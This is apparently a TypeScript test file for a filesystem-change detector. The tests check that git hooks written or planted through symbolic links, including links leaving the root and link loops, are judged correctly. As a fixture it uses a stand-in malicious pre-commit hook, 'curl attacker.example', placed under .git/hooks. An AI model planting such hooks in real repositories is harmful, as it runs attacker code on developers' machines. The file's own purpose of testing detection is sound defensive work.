import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, it } from 'node:test';
import { fileCreated, fileDeleted } from '../../src/models/condition.js';
import { checkManifest, type Manifest, type ManifestEntry } from '../../src/models/manifest.js';
import { LocalFileSurfaceSource } from '../../src/sources/local-file-source.js';
import { diffManifests } from '../../src/verdicts/diff-manifests.js';
import { judgeFileCreated } from '../../src/verdicts/file-created.js';
import { judgeFileDeleted } from '../../src/verdicts/file-deleted.js';
import { seeThroughLinks } from '../../src/verdicts/through-links.js';
import { removeDir, tempDir } from '../sources/support/trees.js';
import { takeManifest } from '../support/manifests.js';

/**
 * Change conditions see through in-root directory links (SPEC §13): with `.git -> real-git` a hook
 * written through the link is judged like one in `.git`, each file is listed once in the change list
 * (the paths through links kept apart), and a link that leaves the root is a gap for what lies beneath
 * it. The race (a link swapped while the manifest is taken) is in through-links-swap.heavy.test.ts.
 */

const HOOK = '#!/bin/sh\ncurl attacker.example\n';
const hooks = fileCreated({ uri: '/.git/hooks/*', match: 'glob' });

describe('change conditions through directory links (real trees)', () => {
  let root: string;
  let outside: string;
  const at = (name: string) => path.join(root, name);
  beforeEach(() => {
    root = tempDir();
    outside = tempDir();
    fs.mkdirSync(at('real-git/hooks'), { recursive: true });
    fs.writeFileSync(at('README.md'), 'read me');
    fs.mkdirSync(path.join(outside, 'hooks'));
    fs.writeFileSync(path.join(outside, 'hooks/pre-commit'), 'OUTSIDE SECRET');
  });
  afterEach(() => {
    removeDir(root);
    removeDir(outside);
  });

  it('a hook written through .git -> real-git proves a glob on .git/hooks, and is listed once', () => {
    fs.symlinkSync('real-git', at('.git'));
    const baseline = takeManifest(root);
    fs.writeFileSync(at('real-git/hooks/pre-commit'), HOOK);
    const set = diffManifests(baseline, takeManifest(root));
    assert.deepEqual(
      set.changes.map((change) => [change.kind, change.uri]),
      [['created', '/real-git/hooks/pre-commit']],
    );
    assert.deepEqual(
      set.throughLinks?.changes.map((change) => [change.kind, change.uri, change.after?.via]),
      [['created', '/.git/hooks/pre-commit', '/.git -> real-git']],
    );
    const judged = judgeFileCreated(set, hooks);
    assert.equal(judged.value, true, judged.rationale);
    assert.deepEqual(judged.provenUris, ['/.git/hooks/pre-commit']);
    assert.match(judged.rationale, /through "\/\.git -> real-git"/);
    // The real path is judged as before.
    assert.equal(judgeFileCreated(set, fileCreated({ uri: '/real-git/**', match: 'glob' })).value, true);
  });

  it('an untouched linked .git is decided false, and a link that appears shows the hooks behind it', () => {
    fs.writeFileSync(at('real-git/hooks/pre-commit'), HOOK);
    const baseline = takeManifest(root);
    const quiet = judgeFileCreated(diffManifests(baseline, takeManifest(root)), hooks);
    assert.deepEqual([quiet.status, quiet.value], ['complete', false], quiet.rationale);
    fs.symlinkSync('real-git', at('.git'));
    const set = diffManifests(baseline, takeManifest(root));
    assert.deepEqual(
      set.changes.map((change) => [change.kind, change.uri]),
      [['created', '/.git']],
    );
    const judged = judgeFileCreated(set, hooks);
    assert.equal(judged.value, true, judged.rationale);
  });

  it('a looked-up hook through the link is listed once, at its real path, and still proves the exact condition', async () => {
    fs.symlinkSync('real-git', at('.git'));
    const lookups = ['/.git/hooks/pre-commit'];
    const source = new LocalFileSurfaceSource({ root });
    const baseline = await source.acquireManifest({ lookups });
    fs.writeFileSync(at('real-git/hooks/pre-commit'), HOOK);
    const set = diffManifests(baseline, await source.acquireManifest({ lookups }));
    assert.deepEqual(
      set.changes.map((change) => change.uri),
      ['/real-git/hooks/pre-commit'],
    );
    assert.deepEqual(
      set.throughLinks?.changes.map((change) => change.uri),
      ['/.git/hooks/pre-commit'],
    );
    const exact = judgeFileCreated(set, fileCreated('/.git/hooks/pre-commit'));
    assert.equal(exact.value, true, exact.rationale);
    assert.equal(judgeFileCreated(set, hooks).value, true);
  });

  it('a link leaving the root is a gap for paths beneath it only, and nothing outside is read', () => {
    fs.symlinkSync(outside, at('.git'));
    fs.symlinkSync(path.relative(root, outside), at('rel-git'));
    const baseline = takeManifest(root);
    fs.writeFileSync(at('notes.md'), 'new');
    const set = diffManifests(baseline, takeManifest(root));
    assert.ok(!JSON.stringify(set).includes('OUTSIDE SECRET'));
    const absolute = judgeFileCreated(set, hooks);
    assert.equal(absolute.status, 'undetermined', absolute.rationale);
    assert.match(absolute.rationale, /link_not_followed/);
    const relative = judgeFileCreated(set, fileCreated({ uri: '/rel-git/hooks/*', match: 'glob' }));
    assert.equal(relative.status, 'undetermined', relative.rationale);
    assert.match(relative.rationale, /link_outside_root/);
    // The links themselves, and wildcards elsewhere, are decided as before.
    assert.equal(judgeFileCreated(set, fileCreated('/.git')).value, false);
    assert.equal(judgeFileCreated(set, fileCreated({ uri: '/**/*.md', match: 'glob' })).value, true);
    assert.deepEqual(judgeFileCreated(set, fileCreated({ uri: '/**/*.sh', match: 'glob' })).value, false);
  });

  it('a link loop is seen through once; a path deeper into the loop is undetermined, never false', () => {
    fs.mkdirSync(at('a'));
    fs.symlinkSync('.', at('a/loop'));
    fs.symlinkSync('../b', at('a/to-b'));
    fs.mkdirSync(at('b'));
    fs.symlinkSync('../a', at('b/to-a'));
    const baseline = takeManifest(root);
    fs.writeFileSync(at('b/x.sh'), 'echo');
    const set = diffManifests(baseline, takeManifest(root));
    assert.deepEqual(
      set.changes.map((change) => change.uri),
      ['/b/x.sh'],
    );
    assert.equal(judgeFileCreated(set, fileCreated({ uri: '/a/to-b/*.sh', match: 'glob' })).value, true);
    const deeper = judgeFileCreated(set, fileCreated({ uri: '/a/to-b/to-a/to-b/*.sh', match: 'glob' }));
    assert.notEqual(deeper.value, false, deeper.rationale);
    const self = judgeFileCreated(set, fileCreated({ uri: '/a/loop/to-b/*.sh', match: 'glob' }));
    assert.notEqual(self.value, false, self.rationale);
    assert.equal(judgeFileCreated(set, fileCreated({ uri: '/**/*.sh', match: 'glob' })).value, true);
  });
});

describe('change conditions through links to files (real trees)', () => {
  let root: string;
  const at = (name: string) => path.join(root, name);
  beforeEach(() => {
    root = tempDir();
    fs.mkdirSync(at('real'));
    fs.writeFileSync(at('real/SENTINEL.md'), 'keep me');
    fs.mkdirSync(at('.git/hooks'), { recursive: true });
    fs.writeFileSync(at('payload.sh'), HOOK);
  });
  afterEach(() => removeDir(root));

  it('removing a link whose file stays deletes that file at the link path, for globs and exact uris', () => {
    fs.symlinkSync('real/SENTINEL.md', at('SENTINEL.md'));
    const baseline = takeManifest(root);
    // Control: nothing removed is no deletion, decided.
    const quiet = diffManifests(baseline, takeManifest(root));
    assert.deepEqual([judgeFileDeleted(quiet, fileDeleted('/SENTINEL.md')).value], [false]);
    fs.rmSync(at('SENTINEL.md'));
    const set = diffManifests(baseline, takeManifest(root));
    // The link's own change stays as it is; the file seen at its path is apart.
    assert.deepEqual(
      set.changes.map((change) => [change.kind, change.uri, change.before?.type]),
      [['deleted', '/SENTINEL.md', 'symlink']],
    );
    assert.deepEqual(
      set.throughLinks?.changes.map((change) => [
        change.kind,
        change.uri,
        change.before?.type,
        change.before?.via,
      ]),
      [['deleted', '/SENTINEL.md', 'file', '/SENTINEL.md -> real/SENTINEL.md']],
    );
    for (const condition of [fileDeleted('/SENTINEL.md'), fileDeleted({ uri: '/*.md', match: 'glob' })]) {
      const judged = judgeFileDeleted(set, condition);
      assert.equal(judged.value, true, judged.rationale);
    }
    // The real file is still there.
    assert.equal(judgeFileDeleted(set, fileDeleted('/real/SENTINEL.md')).value, false);
  });

  it('a hook planted as a link to an in-root file is a file created there (directly and through .git)', () => {
    fs.mkdirSync(at('real-git/hooks'), { recursive: true });
    fs.symlinkSync('real-git', at('git-link'));
    const baseline = takeManifest(root);
    fs.symlinkSync('../../payload.sh', at('.git/hooks/pre-commit'));
    fs.symlinkSync('../../payload.sh', at('real-git/hooks/pre-push'));
    const set = diffManifests(baseline, takeManifest(root));
    const judged = judgeFileCreated(set, hooks);
    assert.equal(judged.value, true, judged.rationale);
    assert.deepEqual(judged.provenUris, ['/.git/hooks/pre-commit']);
    const linked = judgeFileCreated(set, fileCreated({ uri: '/git-link/hooks/*', match: 'glob' }));
    assert.equal(linked.value, true, linked.rationale);
    assert.deepEqual(
      set.throughLinks?.changes.find((change) => change.uri === '/git-link/hooks/pre-push')?.after?.via,
      '/git-link -> real-git, /real-git/hooks/pre-push -> ../../payload.sh',
    );
    // A link to a file that does not exist is nothing to git: decided false.
    fs.rmSync(root, { recursive: true });
    fs.mkdirSync(at('.git/hooks'), { recursive: true });
    const empty = takeManifest(root);
    fs.symlinkSync('../../missing.sh', at('.git/hooks/pre-commit'));
    const dangling = judgeFileCreated(diffManifests(empty, takeManifest(root)), hooks);
    assert.deepEqual([dangling.status, dangling.value], ['complete', false], dangling.rationale);
  });

  it('a hook planted as a link Witness cannot follow is undetermined, never false', () => {
    const baseline = takeManifest(root);
    // Inside the sandbox the workspace has an absolute path of its own: git runs this hook.
    fs.symlinkSync('/workspace/payload.sh', at('.git/hooks/pre-commit'));
    fs.symlinkSync('../../../elsewhere/payload.sh', at('.git/hooks/pre-push'));
    const set = diffManifests(baseline, takeManifest(root));
    assert.deepEqual(set.throughLinks?.undecided, ['/.git/hooks/pre-commit', '/.git/hooks/pre-push']);
    const judged = judgeFileCreated(set, hooks);
    assert.equal(judged.status, 'undetermined', judged.rationale);
    assert.match(
      judged.rationale,
      /change not decidable for "\/\.git\/hooks\/pre-commit", "\/\.git\/hooks\/pre-push"/,
    );
    // Elsewhere the tree is decided as before.
    assert.equal(judgeFileCreated(set, fileCreated({ uri: '/real/*', match: 'glob' })).value, false);
  });
});

describe('seeThroughLinks on hand-made manifests', () => {
  const entry = (
    uri: string,
    type: ManifestEntry['type'],
    linkTarget: string | null = null,
  ): ManifestEntry => ({
    uri,
    type,
    sizeBytes: 0,
    sha256: type === 'file' ? '0'.repeat(64) : null,
    mode: 0o644,
    linkTarget,
  });
  const manifest = (entries: ManifestEntry[], gaps: Manifest['coverage']['gaps'] = []): Manifest =>
    checkManifest({
      schemaVersion: 1,
      surface: 'workspace',
      sourceIdentifier: { type: 'test', version: '1', params: {} },
      acquisition: gaps.length === 0 ? 'complete' : 'partial',
      takenAt: '2026-01-01T00:00:00.000Z',
      entries: [...entries].sort((a, b) => (a.uri < b.uri ? -1 : 1)),
      coverage: { complete: gaps.length === 0, reasons: [...new Set(gaps.map((g) => g.reason))], gaps },
      metadata: {},
    });

  it('follows a chain of links component by component, from each link real directory', () => {
    const seen = seeThroughLinks(
      manifest([
        entry('/a', 'symlink', 'b'),
        entry('/b', 'directory'),
        entry('/b/c', 'symlink', '../d'),
        entry('/d', 'directory'),
        entry('/d/x', 'file'),
      ]),
    );
    assert.deepEqual(
      seen.entries.map((e) => [e.uri, e.via]),
      [
        ['/a/c', '/a -> b'],
        ['/a/c/x', '/a -> b, /b/c -> ../d'],
        ['/b/c/x', '/b/c -> ../d'],
      ],
    );
    assert.equal(seen.realUri.get('/a/c/x'), '/d/x');
  });

  it('aliases a gap inside or above the target, and refuses absolute and climbing targets', () => {
    const seen = seeThroughLinks(
      manifest(
        [
          entry('/.git', 'symlink', 'real/git'),
          entry('/real', 'directory'),
          entry('/real/git', 'directory'),
          entry('/abs', 'symlink', '/etc'),
          entry('/up', 'symlink', '../..'),
        ],
        [{ reason: 'listing_failed', uri: '/real/git/hooks' }],
      ),
    );
    assert.deepEqual(
      seen.gaps.map((gap) => [gap.reason, gap.uri]),
      [
        ['link_not_followed', '/abs'],
        ['link_outside_root', '/up'],
        ['listing_failed', '/.git/hooks'],
      ],
    );
  });

  it('stops at its budget with a gap, never silently', () => {
    const entries = [entry('/l', 'symlink', 'd'), entry('/d', 'directory')];
    for (let i = 0; i < 8; i++) entries.push(entry(`/d/${i}`, 'file'));
    const seen = seeThroughLinks(manifest(entries), 5);
    assert.equal(seen.entries.length, 5);
    assert.deepEqual(
      seen.gaps.map((gap) => [gap.reason, gap.uri]),
      [['listing_limit_exceeded', '/l']],
    );
  });
});
